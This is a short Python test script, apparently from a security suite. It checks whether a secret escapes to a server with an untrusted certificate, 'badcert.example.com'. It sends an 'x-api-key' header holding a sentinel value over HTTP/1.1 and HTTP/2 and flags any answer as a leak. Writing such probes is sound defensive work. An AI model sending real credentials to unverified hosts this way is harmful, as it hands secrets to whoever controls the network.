# SPDX-License-Identifier: Apache-2.0
# Trick: the stand-in sent to its host, where somebody else answers with a certificate of
#	his own
# Gain: who takes the network over upstream gets the secret
from trick import *

name = "badcert.example.com"
addr = (look_up(name) or [BADCERT])[0]
outs = []
for alpn in (None, ["h2"]):
    s = tls(addr, 443, name, alpn)
    if s and alpn and s.selected_alpn_protocol() == "h2":
        say(s, PREFACE + frame(4) + frame(1, 5, 1, hpack(h2_fields(name, more=[("x-api-key", SENTINEL)]))))
        if h2_ok(read(s, 0.5)):
            escaped("it was answered over HTTP/2")
    elif s and say(s, request(name, headers=[f"x-api-key: {SENTINEL}"])):
        outs.append((name, read(s, 0.7)))
any_answer("an untrusted server", outs)
